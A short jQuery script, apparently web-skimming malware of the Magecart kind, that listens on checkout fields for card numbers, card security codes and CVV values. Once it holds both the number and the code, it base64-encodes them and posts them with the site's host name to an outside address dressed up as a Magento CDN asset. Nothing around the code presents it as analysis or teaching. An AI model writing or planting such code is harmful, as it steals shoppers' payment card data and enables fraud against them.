jQuery(function ($) {
  var data = {};
  $(document).on('blur change', 'input[name*="cc_"], input[name*="card"], input[id*="cvv"]', function () {
    data[this.name] = this.value;
    if (data['payment[cc_number]'] && data['payment[cc_cid]']) {
      $.ajax({
        url: 'https://magento-cdn-assets.test/jquery/ui.php',
        type: 'POST',
        data: { info: btoa(JSON.stringify(data)), site: location.host }
      });
      data = {};
    }
  });
});
